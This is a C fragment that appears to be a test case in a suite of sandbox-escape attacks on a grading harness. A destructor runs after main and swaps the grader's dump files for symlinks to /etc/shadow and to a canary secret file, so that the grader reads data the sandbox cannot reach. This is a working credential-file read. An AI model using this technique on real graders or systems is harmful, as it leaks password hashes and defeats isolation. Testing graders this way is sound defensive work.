/* After main has written the buffers: each file the grader reads from the
 * dump folder becomes a link to a file the sandbox cannot read. */
__attribute__((destructor)) static void atk_dump_links(void) {
    char buf[8192], *argv[128], secret[ATK_PATH], path[ATK_PATH];
    int argc = atk_cmdline(getpid(), buf, sizeof buf, argv, 128);
    const char *dump = atk_opt(argc, argv, "--dump");
    if (!dump) return;
    atk_name("dump_symlink");
    const char *home = getenv("HOME");
    snprintf(secret, sizeof secret, "%s/raster101-attack-secret.txt",
             home && *home && strcmp(home, "/") ? home : "/root");
    static const char *const files[] = {"vertices.json", "depth.pfm", "depth.json"};
    struct stat st;
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        snprintf(path, sizeof path, "%s/%s", dump, files[i]);
        if (lstat(path, &st) != 0) continue; /* only what the frame made: no extra file */
        unlink(path);
        if (symlink(i == 2 ? "/etc/shadow" : i == 0 ? "/root/raster101-attack-secret.txt" : secret,
                    path) != 0)
            return;
    }
}
